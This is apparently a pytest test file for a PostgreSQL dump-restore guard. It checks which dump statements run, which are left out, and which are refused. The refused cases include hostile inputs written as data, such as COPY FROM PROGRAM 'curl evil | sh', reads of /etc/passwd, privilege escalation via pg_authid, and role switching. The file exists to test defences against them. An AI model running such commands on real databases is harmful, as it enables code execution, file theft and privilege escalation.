"""What of a dump runs, what is left out, and what makes it refused."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dbtether.backup.restore.guard import DumpRefused, Guard
from dbtether.backup.restore.model import Rules
from dbtether.backup.scanner import DumpDamaged, DumpScanner

RULES = Rules(16, frozenset({"public", "app"}), frozenset({"reporting", "Mixed Case"}))
FOOTER = b"\n--\n-- PostgreSQL database dump complete\n--\n"


class Judged:
    """Runs nothing, and keeps what would run."""

    def __init__(self) -> None:
        self.guard = Guard(RULES)
        self.run: list[str] = []

    def statement(self, head: bytes, text: bytes, offset: int) -> None:
        if self.guard.judge(head, text, offset):
            self.run.append(text.decode())

    def command(self, line: bytes, offset: int) -> None:
        self.guard.command(line, offset)

    def rows(self, data: memoryview) -> None:
        """What is data is nobody's to judge."""

    def rows_end(self) -> None:
        """Nor is its end."""


def judge(text: str) -> Judged:
    found = Judged()
    scanner = DumpScanner(found)
    scanner.feed(text.encode() + FOOTER)
    scanner.close()
    found.guard.close()
    return found


RUN = {
    "a table": 'CREATE TABLE "public"."t" ("a" integer DEFAULT 1)',
    "an unlogged table": "CREATE UNLOGGED TABLE t (a int)",
    "an unlogged sequence": "CREATE UNLOGGED SEQUENCE s START WITH 1 INCREMENT BY 1",
    "a view": "CREATE OR REPLACE VIEW v AS SELECT 'COMMIT; RESET ROLE'",
    "a routine with a body of statements": "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; SELECT 2; END",
    "a routine that says what no statement may": "CREATE PROCEDURE p() AS $_$ BEGIN COMMIT; RESET ROLE; END $_$",
    "a type": "CREATE TYPE mood AS ENUM ('sad', 'ok')",
    "a partition": "ALTER TABLE ONLY public.m ATTACH PARTITION public.m1 FOR VALUES FROM (1) TO (2)",
    "a trigger": "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
    "an index": "CREATE UNIQUE INDEX i ON t USING btree (a)",
    "a text search": 'CREATE TEXT SEARCH CONFIGURATION c (PARSER = pg_catalog."default")',
    "a publication of one table": "CREATE PUBLICATION p WITH (publish = 'insert')",
    "its table": "ALTER PUBLICATION p ADD TABLE ONLY public.t",
    "an operator class": "CREATE OPERATOR CLASS oc FOR TYPE int USING btree AS OPERATOR 1 <",
    "a constraint": "ALTER TABLE ONLY t ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES u(a)",
    "the column that somebody called owner": 'ALTER TABLE t ALTER COLUMN "OWNER TO x" SET DEFAULT 1',
    "a comment": "COMMENT ON COLUMN t.a IS 'COMMIT; RESET ROLE;'",
    "a comment on a schema of the dump": "COMMENT ON SCHEMA other IS 'x'",
    "a sequence's value": "SELECT pg_catalog.setval('public.t_id_seq', 42, true)",
    "a large object": "SELECT pg_catalog.lo_create('16385')",
    "pg_dump's search path": "SELECT pg_catalog.set_config('search_path', '', false)",
    "the search path of an old pg_dump": "SET search_path = public, pg_catalog",
    "an encoding": "SET client_encoding = 'LATIN1'",
    "strings with escapes": "SET standard_conforming_strings = off",
    "rows as statements": "INSERT INTO public.t VALUES (1, 'RESET ROLE')",
    "a materialised view's content": "REFRESH MATERIALIZED VIEW public.mv",
    "what everybody may": "GRANT SELECT ON TABLE public.t TO PUBLIC",
    "what nobody may": "REVOKE ALL ON FUNCTION public.f(integer) FROM PUBLIC",
    "what a known role may": 'GRANT SELECT("a"),INSERT ON TABLE t TO "Mixed Case" WITH GRANT OPTION',
    "a schema of the dump": 'CREATE SCHEMA "other"',
    "small letters": "create table t ()",
    "a column named role": "ALTER TABLE t ADD COLUMN role text",
}


@pytest.mark.parametrize("text", RUN.values(), ids=RUN)
def test_what_pg_dump_writes_runs(text: str) -> None:
    found = judge(f"{text};")
    assert found.run == [text]
    assert not found.guard.left_out


LEFT_OUT = {
    "ALTER ... OWNER TO": [
        'ALTER TABLE "public"."t" OWNER TO "bob"',
        'ALTER FUNCTION public.f(a integer, "b c" text) OWNER TO bob',
        "ALTER LARGE OBJECT 16385 OWNER TO bob",
        "ALTER SCHEMA app OWNER TO bob",
        "ALTER OPERATOR FAMILY o USING btree OWNER TO bob",
    ],
    "CREATE EXTENSION": ["CREATE EXTENSION IF NOT EXISTS pg_trgm WITH SCHEMA public"],
    "COMMENT ON EXTENSION": ["COMMENT ON EXTENSION pg_trgm IS 'text similarity'"],
    "COMMENT ON DATABASE": ["COMMENT ON DATABASE shop IS 'x'"],
    "COMMENT ON SCHEMA of one that exists": [
        "COMMENT ON SCHEMA public IS 'standard'",
        'COMMENT ON SCHEMA "app" IS NULL',
    ],
    "CREATE SCHEMA of one that exists": ["CREATE SCHEMA app", "CREATE SCHEMA IF NOT EXISTS public"],
    "ALTER DEFAULT PRIVILEGES": [
        "ALTER DEFAULT PRIVILEGES FOR ROLE bob IN SCHEMA app GRANT SELECT ON TABLES TO PUBLIC"
    ],
    "SET of time-outs": ["SET statement_timeout = 0", "SET transaction_timeout = 0", "SET lock_timeout = 0"],
    "SET of other settings": [
        "SET default_tablespace = ''",
        "SET setting_of_version_25 = on",
        "SET default_with_oids = false",
    ],
    "privileges of roles": [
        "GRANT ALL ON TABLE t TO bob",
        "GRANT SELECT ON TABLE t TO dbtether_shop_readonly",
        'REVOKE ALL ON TABLE t FROM "TO PUBLIC"',
        "GRANT SELECT ON TABLE t TO GROUP public",
        "GRANT SELECT ON TABLE t TO mixed",
    ],
    "privileges on DATABASE": ["GRANT ALL ON DATABASE shop TO PUBLIC"],
    "privileges on SCHEMA of one that exists": [
        "GRANT ALL ON SCHEMA public TO PUBLIC",
        'REVOKE USAGE ON SCHEMA "app" FROM PUBLIC',
    ],
    "privileges on objects of the system": ["GRANT ALL ON FUNCTION pg_catalog.pg_ls_dir(text) TO PUBLIC"],
    "DROP": [
        "DROP TABLE public.t",
        "ALTER TABLE IF EXISTS ONLY public.t DROP CONSTRAINT IF EXISTS c",
        "ALTER TABLE public.t ALTER COLUMN id DROP DEFAULT",
    ],
    "SUBSCRIPTION": ["CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", "ALTER SUBSCRIPTION s OWNER TO x"],
    "EVENT TRIGGER": [
        "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()",
        "COMMENT ON EVENT TRIGGER e IS 'x'",
    ],
    "SECURITY LABEL": ["SECURITY LABEL FOR selinux ON TABLE t IS 'x'"],
    "statistics": ["SELECT * FROM pg_catalog.pg_restore_relation_stats('version', '180000'::integer)"],
}


@pytest.mark.parametrize(("label", "text"), [(label, text) for label, texts in LEFT_OUT.items() for text in texts])
def test_what_the_target_rules_itself_is_left_out_and_told(label: str, text: str) -> None:
    found = judge(f"{text};")
    assert found.run == []
    assert found.guard.left_out == {label: 1}


REFUSED = {
    "a commit": "COMMIT",
    "a commit and chain": "COMMIT AND CHAIN",
    "a transaction": "BEGIN; CREATE TABLE t (); COMMIT",
    "a transaction with options": "BEGIN ISOLATION LEVEL SERIALIZABLE",
    "a transaction by its other name": "START TRANSACTION",
    "an end": "END",
    "an abort": "ABORT",
    "a rollback": "ROLLBACK",
    "a savepoint": "SAVEPOINT s",
    "a savepoint's end": "RELEASE SAVEPOINT s",
    "a prepared transaction": "PREPARE TRANSACTION 'x'",
    "a prepared statement": "PREPARE x AS SELECT 1",
    "its execution": "EXECUTE x",
    "a transaction's properties": "SET TRANSACTION READ ONLY",
    "a transaction's properties as a setting": "SET transaction_isolation = serializable",
    "another role": "SET ROLE postgres",
    "another role as a setting": "SET role = postgres",
    "another role as a setting, in quotes": 'SET "role" TO postgres',
    "another role, for the transaction": "SET LOCAL ROLE postgres",
    "another role, for the session": "SET SESSION ROLE none",
    "no role": "RESET ROLE",
    "no setting": "RESET ALL",
    "another user": "SET SESSION AUTHORIZATION postgres",
    "another user, and back": "SET SESSION AUTHORIZATION bob; CREATE TABLE t (); RESET SESSION AUTHORIZATION",
    "another user, by default": "SET SESSION AUTHORIZATION DEFAULT",
    "another user, back alone": "RESET SESSION AUTHORIZATION",
    "another user as a setting": "SET session_authorization = postgres",
    "everything away": "DISCARD ALL",
    "a program's output": "COPY t FROM PROGRAM 'id'",
    "a file": "COPY t FROM '/etc/passwd'",
    "data out": "COPY t TO '/tmp/x'",
    "data to the client": "COPY (SELECT 1) TO STDOUT",
    "code": "DO $$ BEGIN EXECUTE 'RESET ROLE'; END $$",
    "a call": "CALL p()",
    "a function": "SELECT pg_catalog.pg_reload_conf()",
    "a function in the place of setval": "SELECT pg_catalog.setval('s', evil(), true)",
    "a setval of somebody else": "SELECT setval('s', 1, true)",
    "another setting by a function": "SELECT pg_catalog.set_config('role', 'none', false)",
    "a search path and more": "SELECT pg_catalog.set_config('search_path', '', false), evil()",
    "a query": "(SELECT evil())",
    "a query with a name": "WITH x AS (SELECT evil()) SELECT * FROM x",
    "an update": "UPDATE pg_catalog.pg_authid SET rolsuper = true",
    "a deletion": "DELETE FROM t",
    "a role": "CREATE ROLE x SUPERUSER",
    "a user": "CREATE USER x",
    "a login of the run": "ALTER ROLE CURRENT_USER SET application_name = 'x'",
    "a user changed": "ALTER USER x PASSWORD 'y'",
    "a database": "CREATE DATABASE x",
    "a database's settings": "ALTER DATABASE x SET search_path = evil",
    "the server's settings": "ALTER SYSTEM SET archive_command = 'id'",
    "a tablespace": "CREATE TABLESPACE t LOCATION '/'",
    "a table for the session": "CREATE TEMP TABLE t ()",
    "membership": "GRANT dbtether_shop_owner TO PUBLIC",
    "several grantees": "GRANT SELECT ON TABLE t TO PUBLIC, bob",
    "a library": "LOAD 'evil'",
    "a listener": "LISTEN x",
    "a notification": "NOTIFY x",
    "a lock": "LOCK TABLE t",
    "an extension's member": "ALTER EXTENSION e ADD TABLE t",
    "a schema with things in it": "CREATE SCHEMA x CREATE TABLE t ()",
    "an encoding in which a backslash may be half a letter": "SET client_encoding = 'SJIS'",
    "an encoding by another spelling": "SET client_encoding = 'g-b-k'",
    "an encoding without a name": "SET client_encoding TO DEFAULT",
    "strings in a way that the scanner would not see": "SET standard_conforming_strings = 'off'",
    "strings in a way that has a comment in it": "SET standard_conforming_strings /* */ = off",
    "strings for the transaction": "SET LOCAL standard_conforming_strings = off",
    "nothing but a name": '"commit"',
    "a comment on a role": "COMMENT ON ROLE dbtether_shop_owner IS 'dbtether:other/shop@x'",
    "a word that nobody knows": "FROBNICATE",
    "words that are missing": "CREATE",
    "a comment on nothing": "COMMENT ON SCHEMA",
    "a name that is missing": "CREATE EXTENSION",
    "a large object outside of a transaction": "SELECT pg_catalog.lo_open('1', 131072)",
    "a statement among a large object's content": "BEGIN; SELECT pg_catalog.lo_close(0); CREATE TABLE t (); COMMIT",
    "a large object without an end": "BEGIN; SELECT pg_catalog.lo_open('1', 131072)",
    "two beginnings": "BEGIN; BEGIN",
    "a file as a large object": "SELECT pg_catalog.lo_import('/etc/passwd')",
    "a large object's export": "SELECT pg_catalog.lo_export(1, '/tmp/x')",
}


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
def test_what_pg_dump_does_not_write_is_refused(text: str) -> None:
    with pytest.raises(DumpRefused):
        judge(f"CREATE TABLE first ();\n{text};")


@pytest.mark.parametrize(
    "line", ["connect other", "! id", "i /etc/passwd", "copy t from program 'id'", "gexec", "restrict a b", "set x y"]
)
def test_commands_of_psql_are_refused(line: str) -> None:
    with pytest.raises(DumpRefused, match="a command of psql may run programs and read files"):
        judge(f"\\{line}\n")


def test_what_psql_must_not_do_while_it_restores_means_nothing_here() -> None:
    assert judge("\\restrict aB3\n\nCREATE TABLE t ();\n\\unrestrict aB3\n").run == ["CREATE TABLE t ()"]


def test_the_message_tells_what_where_and_why_without_what_is_in_strings() -> None:
    with pytest.raises(DumpRefused) as caught:
        judge("CREATE TABLE t ();\nCOPY t FROM PROGRAM 'curl evil | sh';")
    assert str(caught.value) == (
        "the dump is refused: after 55 bytes it says `COPY t FROM PROGRAM ''`, and only COPY ... FROM stdin is restored"
    )


def test_a_zero_byte_would_hide_what_follows_it_from_the_server() -> None:
    with pytest.raises(DumpRefused, match="zero byte"):
        judge("CREATE TABLE t ()\0 WITH (fillfactor = 70);")


def test_large_objects_run_within_the_transaction_that_is_there() -> None:
    content = [
        "SELECT pg_catalog.lo_open('16385', 131072)",
        "SELECT pg_catalog.lowrite(0, '\\x00ff')",
        "SELECT pg_catalog.lo_close(0)",
    ]
    found = judge(f"BEGIN;\n\n{';'.join(content)};\n\nCOMMIT;")
    assert found.run == content
    assert found.guard.left_out == {"BEGIN and COMMIT of large objects": 2}


def test_what_another_grantor_gave_is_left_out_with_all_that_is_around_it() -> None:
    text = 'SET SESSION AUTHORIZATION "bob";\nGRANT SELECT ON TABLE t TO PUBLIC;\nRESET SESSION AUTHORIZATION;'
    found = judge(text + "\nCREATE TABLE t ();")
    assert found.run == ["CREATE TABLE t ()"]
    assert found.guard.left_out == {
        "SET SESSION AUTHORIZATION around a GRANT": 2,
        "privileges of another grantor": 1,
    }


@pytest.mark.parametrize("scope", ["ALL TABLES", "ALL TABLES, ALL SEQUENCES", "TABLES IN SCHEMA public"])
def test_a_publication_that_only_a_superuser_may_make_is_left_out_with_all_that_is_about_it(scope: str) -> None:
    text = f'CREATE PUBLICATION "P" FOR {scope};COMMENT ON PUBLICATION "P" IS \'x\';ALTER PUBLICATION "P" SET (a);'
    found = judge(text)
    assert found.run == []
    assert found.guard.left_out == {"PUBLICATION of all tables": 3}


def test_what_the_target_must_have_is_found() -> None:
    guard = judge(
        'CREATE EXTENSION IF NOT EXISTS "uuid-ossp" WITH SCHEMA public; CREATE SCHEMA other; CREATE TABLE t ();'
        'CREATE POLICY p ON t AS PERMISSIVE FOR ALL TO alice, "Bob TO", PUBLIC USING ((owner = CURRENT_USER));'
        "CREATE POLICY q ON t FOR SELECT USING (x TO y); CREATE USER MAPPING FOR carol SERVER s;"
        "CREATE INDEX i ON t (a);CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE sql;"
    ).guard
    assert list(guard.extensions) == ["uuid-ossp"]
    assert list(guard.schemas) == ["other"]
    assert list(guard.roles) == ["alice", "Bob TO", "carol"]
    assert guard.objects == 2


GAPS = st.lists(
    st.sampled_from([" ", "\n", "\t", "\r", "\f", "/* ; */", "/* /* */ ' */", "-- '\n", "--\n"]), min_size=1, max_size=4
).map("".join)
HARM = (
    "COMMIT",
    "RESET ROLE",
    "SET ROLE x",
    "DO ''",
    "CALL p ( )",
    "COPY t FROM PROGRAM ''",
    "ROLLBACK",
    "SET ROLE = x",
)


@given(st.sampled_from(HARM), st.data())
def test_neither_case_nor_comments_nor_white_space_hide_a_statement(harm: str, data: st.DataObject) -> None:
    words = [word.swapcase() if data.draw(st.booleans()) else word for word in harm.split()]
    text = data.draw(GAPS) + data.draw(GAPS).join(words) + data.draw(GAPS)
    with pytest.raises(DumpRefused):
        judge(text + ";")


QUOTES = st.sampled_from(
    [
        "'{}'",
        "E'{}'",
        "$${}$$",
        "$a${}$a$",
        '"{}"',
        "/*{}*/",
        "--{}\n",
        "U&'{}'",
        "n'{}'",
        "x$${}$$",
        "E'a'\n'{}'",
        "({})",
    ]
)
CONTENT = st.text(alphabet="'\"\\$;a/*- \n()eE&", max_size=12)


@given(st.lists(st.tuples(QUOTES, CONTENT), max_size=5))
def test_what_is_refused_as_a_statement_is_never_run_as_one_whatever_quotes_are_around_it(
    parts: list[tuple[str, str]],
) -> None:
    prefix = "CREATE TABLE t " + " ".join(quote.replace("{}", content) for quote, content in parts)
    try:
        run = judge(f"{prefix};COMMIT;RESET ROLE;").run
    except (DumpRefused, DumpDamaged):
        return
    # Nobody said that it is a statement of its own: then the server gets all of it as one text, and refuses it.
    assert not any(re.match(r"(?i)\s*(COMMIT|RESET)", text) for text in run)
